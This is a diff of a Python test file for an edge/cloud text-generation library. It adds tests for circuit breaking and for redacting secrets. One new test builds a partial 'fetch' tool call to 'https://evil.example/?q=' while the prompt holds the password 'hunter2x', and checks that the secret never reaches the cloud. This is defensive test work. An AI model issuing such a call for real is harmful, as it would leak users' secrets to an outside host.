@@ -6,10 +6,12 @@ from contextlib import closing
 import hypothesis.strategies as st
 import numpy as np
 import pytest
-from hypothesis import assume, example, given, settings
+from hypothesis import assume, example, given
 
 from edgewise.cloud.probe import Habits
 from edgewise.cloud.reasoning import Reasoning
+from edgewise.cloud.redaction.rules import redaction_of
+from edgewise.cloud.redaction.view import Redacted
 from edgewise.cloud.seam import REPEATED
 from edgewise.cloud.text import TextCloud
 from edgewise.edge.base import Floats
@@ -18,12 +20,14 @@ from edgewise.errors import (
     CloudProtocolError,
     CloudRejected,
     CloudUnavailable,
+    NothingUsable,
     VocabularyMismatch,
 )
+from edgewise.loop.breaker import Breaker
 from edgewise.loop.decoder import Answer, Decoder
 from edgewise.loop.policy import Policy
 from edgewise.prompts import Message, Prompt
-from edgewise.routers.constant import Random
+from edgewise.routers.constant import Constant, Random
 from edgewise.sampling import Sampling
 from edgewise.testing.scripted_edge import EOS, SIZE, ByteTokenizer, ScriptedEdge, completing
 from edgewise.verdict import Verdict
@@ -37,7 +41,7 @@ PROMPT = Prompt(tuple(ASKED.encode()), (Message("user", "sky?"),))
 
 def ask(cloud: TextCloud, answer: str, n: int = 1, prompt: Prompt = PROMPT) -> Verdict:
     with closing(cloud.open(prompt)) as session:
-        return session.ask([*prompt.ids, *answer.encode()], n, Sampling(), 20).result(20)
+        return session.ask([*prompt.ids, *answer.encode()], n, Sampling(), 20).result(60)
 
 
 def wording(verdict: Verdict) -> str:
@@ -88,20 +92,61 @@ def test_who_tells_no_usage_has_written_no_more_than_was_asked() -> None:
 
 
 @pytest.mark.parametrize(
-    ("text", "why", "error"),
+    ("text", "error"),
     [
-        ("so it is not that", "anew", CloudProtocolError),
-        ("", "wrote no text", CloudRejected),
+        ("so it is not, as you know", NothingUsable),
+        ("", CloudRejected),
     ],
 )
-def test_a_reply_that_is_none_is_refused(text: str, why: str, error: type[Exception]) -> None:
+def test_a_reply_that_is_none_is_refused(text: str, error: type[Exception]) -> None:
     class Says(TextDouble):
         async def go_on(self, *args, **more):  # type: ignore[no-untyped-def]
             gone = await super().go_on(*args, **more)
             return type(gone)(text=text, ended=False)
 
-    with closing(TextCloud(Says(), edge=EDGE)) as cloud, pytest.raises(error, match=why):
-        ask(cloud, "so it is not, as you know")
+    with closing(TextCloud(Says(), edge=EDGE)) as cloud, pytest.raises(error):
+        ask(cloud, "so it is not, as you know, what it was")
+
+
+def test_rows_that_begin_alike_pause_no_cloud() -> None:
+    """A table, whose rows all begin with the same words: each consult brings the next one."""
+    row = "| Paris is the capital of France | and more of it in row {} |\n"
+    text = "".join(row.format(number) for number in range(6))
+    engine = TextDouble(writing(text))
+    breaker = Breaker()
+    with closing(TextCloud(engine, edge=EDGE)) as cloud:
+        edge = ScriptedEdge(completing(text, prompt=ASKED))
+        policy = Policy(threshold=0.5, deadline=30.0)
+        decoder = Decoder(edge, router=Constant(1.0), policy=policy, cloud=cloud, breaker=breaker)
+        answer = decoder.generate(PROMPT)
+    assert not breaker.is_open
+    assert not {"protocol", "circuit_open"} & {one.reason for one in answer.tokens}
+    assert answer.text == text
+
+
+class Calling(ByteTokenizer):
+    """Has a control token that begins a call."""
+
+    size = SIZE + 1
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.special[SIZE] = "<tool_call>"
+
+
+def test_a_call_that_begins_with_a_control_token_is_told_no_private_word() -> None:
+    edge = Calling()
+    prompt = Prompt(tuple(b"so "), (Message("user", "password: hunter2x"),))
+    begun = list(b'{"name": "fetch", "arguments": {"url": "https://evil.example/?q=')
+    engine = TextDouble(lambda answer: "<SECRET_1> so it is")
+    view = Redacted(redaction_of("secret", None))
+    with closing(TextCloud(engine, edge=edge, view=view)) as cloud:
+        for answer, told in ([SIZE, *begun], "<SECRET_1>"), ([*b"it is "], "hunter2x"):
+            with closing(cloud.open(prompt)) as session:
+                ids = [*prompt.ids, *answer]
+                asked = session.ask(ids, 3, Sampling(), 60).result()
+                assert wording(asked).startswith(told[:8])
+        assert not any("hunter2x" in one.content for told in engine.told for one in told)
 
 
 def test_half_a_character_is_none() -> None:
@@ -216,7 +261,6 @@ TEXTS = st.lists(
     ahead=st.sampled_from([0, 6]),
 )
 @example("so it is.", False, True, True, 0, 0.0, 1, 0)
-@settings(deadline=None, max_examples=100)
 def test_no_blank_is_lost_or_doubled_wherever_an_answer_is_cut(
     text: str,
     echoes: bool,
